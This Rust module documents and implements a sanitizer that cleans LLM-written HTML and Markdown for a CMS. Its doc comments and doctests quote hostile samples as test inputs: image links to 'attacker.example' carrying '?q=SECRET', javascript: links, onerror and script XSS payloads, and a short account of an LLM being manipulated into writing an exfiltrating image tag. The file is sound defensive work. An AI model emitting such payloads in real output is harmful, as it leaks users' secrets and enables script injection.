//! Clean HTML and Markdown written by an LLM before it is stored or rendered.
//!
//! Built on [`ammonia`] (html5ever's parser, an allow-list, serialization) with a policy
//! for CMS articles, plus what raw ammonia does not do:
//!
//! - **URLs are read as a browser reads them before they are trusted.** Tabs and
//!   newlines inside a URL are removed (browsers ignore them); a reference with no scheme
//!   and no authority stays on the site; anything else is resolved against the site, so
//!   `//host`, `/\host`, `\\host`, `https:host`, userinfo (`https://cdn@attacker/`) and
//!   look-alike hosts are judged by where they lead, and written out as judged. Images load only from the site and an allow-list of hosts: an LLM
//!   talked into writing `<img src="https://attacker.example/?q=SECRET">` cannot
//!   exfiltrate anything when the page renders.
//! - **Stable output**: `clean(clean(x)) == clean(x)`, even for inputs where one
//!   ammonia pass is not (nested links, ammonia issue #185). Output that reads as the
//!   same tokens as its input is a fixed point already (parsing it again builds the
//!   same tree); anything else is cleaned again until it settles.
//! - **Text spoofing and hidden text**: bidi overrides and word joiners are removed (a
//!   link that reads one way and goes another), and so are `dir` attributes on links
//!   and inside them; joiners, zero-width spaces, variation selectors, direction marks
//!   and tag characters stay only where a script or an emoji needs them, judged in context and by density
//!   as the prompt sanitizer judges them, so an invisible sentence spelled in tag
//!   characters or one selector per letter does not reach a crawler or a model.
//! - **Bounded cost**: elements nested deeper than [`MAX_DEPTH`] lose their tags (their
//!   text stays) before the parser sees them, so cleaning stays linear in the input.
//! - **Markdown** ([`sanitize_markdown`]): rendered with `pulldown-cmark`, then cleaned
//!   by the same policy, so `![x](https://attacker.example/?q=SECRET)` is stopped too.
//! - **Content blocks** ([`HtmlSanitizer::clean_blocks`]): every HTML field of the CMS's
//!   JSON block structure.
//!
//! Every call counts `ai_output.sanitized{changed=true|false}`.
//!
//! # Example
//!
//! ```
//! use tower_harden::sanitize::html::{sanitize_html, sanitize_markdown};
//!
//! let html = sanitize_html(
//!     r#"<h2 dir="rtl">مرحبا</h2><p onclick="steal()">Souk <a href="javascript:x()">map</a>
//!        <img src="https://attacker.example/p.png?q=SECRET" alt="pixel"></p>"#,
//! );
//! assert_eq!(
//!     html,
//!     "<h2 dir=\"rtl\">مرحبا</h2><p>Souk <a rel=\"noopener noreferrer nofollow\">map</a>\n       <img alt=\"pixel\"></p>",
//! );
//!
//! let from_markdown = sanitize_markdown("**Gold Souk** ![x](https://attacker.example/?q=SECRET)");
//! assert_eq!(from_markdown, "<p><strong>Gold Souk</strong> <img alt=\"x\"></p>\n");
//! ```
//!
//! # Policy
//!
//! Kept: headings, paragraphs, lists (also definition lists and `details`), tables,
//! blockquote, `q`, code and `pre`, emphasis and the other phrasing elements, `ruby`,
//! links (http, https, mailto, tel, relative; with `rel="noopener noreferrer nofollow"`),
//! images, `figure`/`figcaption`, `br`, `hr`; the attributes `lang`, `dir`, `title`,
//! `datetime` and the few each element needs. Dropped: `bdo` (it reverses text like a
//! bidi override), scripts, event handlers,
//! `style` and CSS `url()`, forms, frames, `object`/`embed`, `base`, `meta`, `link`, SVG
//! and MathML, `srcset`, `ping`, `background`, `poster`, `id` and `class` (DOM
//! clobbering), comments.
//!
//! # Threat model
//!
//! Stops: script execution, navigation and requests outside the allow-list from the
//! cleaned markup when rendered in a page of its own (no inline script or style of the
//! page may interpret it). Does not stop: misleading but harmless content (a link to a
//! scam site over https, false text): that is an editorial concern. Relative URLs are
//! trusted to stay on the site: serve user uploads from a separate origin.

mod blocks;
mod error;
mod hidden;
mod nesting;
mod one_pass;
mod policy;
mod text;
mod urls;

use std::sync::LazyLock;

pub use self::blocks::{
    BlockFields, BlocksReport, DEFAULT_HTML_FIELDS, DEFAULT_IMAGE_FIELDS, DEFAULT_LINK_FIELDS,
};
pub use self::error::{HtmlPolicyError, InputTooLarge};
pub use self::nesting::MAX_DEPTH;
pub use self::policy::{HtmlSanitizer, HtmlSanitizerBuilder};
pub use self::urls::LinkHosts;

/// The longest input, in bytes, a sanitizer cleans unless built with another
/// [`max_input_bytes`](HtmlSanitizerBuilder::max_input_bytes): 1 MiB.
pub const MAX_INPUT_BYTES: usize = 1 << 20;

static DEFAULT: LazyLock<HtmlSanitizer> = LazyLock::new(HtmlSanitizer::new);

/// Cleans LLM-written HTML with the CMS default policy (same-site images only). For an
/// image-host allow-list or your site's origin, build an [`HtmlSanitizer`].
///
/// ```
/// use tower_harden::sanitize::html::sanitize_html;
///
/// assert_eq!(sanitize_html("<p>Fish &amp; chips<script>alert(1)</script></p>"), "<p>Fish &amp; chips</p>");
/// ```
pub fn sanitize_html(html: &str) -> String {
    DEFAULT.clean(html)
}

/// Renders LLM-written Markdown (CommonMark with tables and strikethrough) and cleans the
/// HTML with the CMS default policy. Raw HTML inside the Markdown is cleaned the same way.
///
/// ```
/// use tower_harden::sanitize::html::sanitize_markdown;
///
/// let html = sanitize_markdown("[Visit](javascript:alert(1)) <img src=x onerror=alert(1)>");
/// assert_eq!(html, "<p><a rel=\"noopener noreferrer nofollow\">Visit</a> <img src=\"x\"></p>\n");
/// ```
pub fn sanitize_markdown(markdown: &str) -> String {
    DEFAULT.clean_markdown(markdown)
}

/// Renders Markdown (CommonMark with tables and strikethrough; raw HTML passes through)
/// to HTML **without cleaning it**: what [`HtmlSanitizer::clean_markdown`] cleans, with
/// the same nesting cap. For a caller that wants to tell whether cleaning changed the
/// rendered text; never show or store its result uncleaned.
///
/// ```
/// use tower_harden::sanitize::html::{HtmlSanitizer, render_markdown};
///
/// let rendered = render_markdown("**Souk** <img src=x onerror=alert(1)>");
/// assert_eq!(rendered, "<p><strong>Souk</strong> <img src=x onerror=alert(1)></p>\n");
/// let cleaned = HtmlSanitizer::new().clean(&rendered);
/// assert_ne!(cleaned, rendered);
/// ```
pub fn render_markdown(markdown: &str) -> String {
    use pulldown_cmark::{Options, Parser, html};
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut rendered = String::with_capacity(markdown.len() * 3 / 2);
    let markdown = nesting::limit_markdown(markdown);
    html::push_html(&mut rendered, Parser::new_ext(&markdown, options));
    rendered
}

impl HtmlSanitizer {
    /// Renders `markdown` and cleans the HTML with this policy. Markdown over the size
    /// limit is answered with an empty string, as [`clean`](Self::clean) does.
    pub fn clean_markdown(&self, markdown: &str) -> String {
        self.try_clean_markdown(markdown)
            .unwrap_or_else(|err| self.refused(&err))
    }

    /// Renders `markdown` and cleans the HTML, or refuses Markdown over the size limit
    /// (the limit applies to the Markdown, not to the HTML it renders to).
    ///
    /// ```
    /// use tower_harden::sanitize::html::HtmlSanitizer;
    ///
    /// let sanitizer = HtmlSanitizer::builder().max_input_bytes(8).build().unwrap();
    /// assert_eq!(sanitizer.try_clean_markdown("**hi**").unwrap(), "<p><strong>hi</strong></p>\n");
    /// assert!(sanitizer.try_clean_markdown("a paragraph too long").is_err());
    /// ```
    ///
    /// # Errors
    ///
    /// [`InputTooLarge`] when `markdown` is longer than the limit; nothing was parsed.
    pub fn try_clean_markdown(&self, markdown: &str) -> Result<String, InputTooLarge> {
        self.check_size(markdown)?;
        Ok(self.clean_within_limit(&render_markdown(markdown)))
    }
}
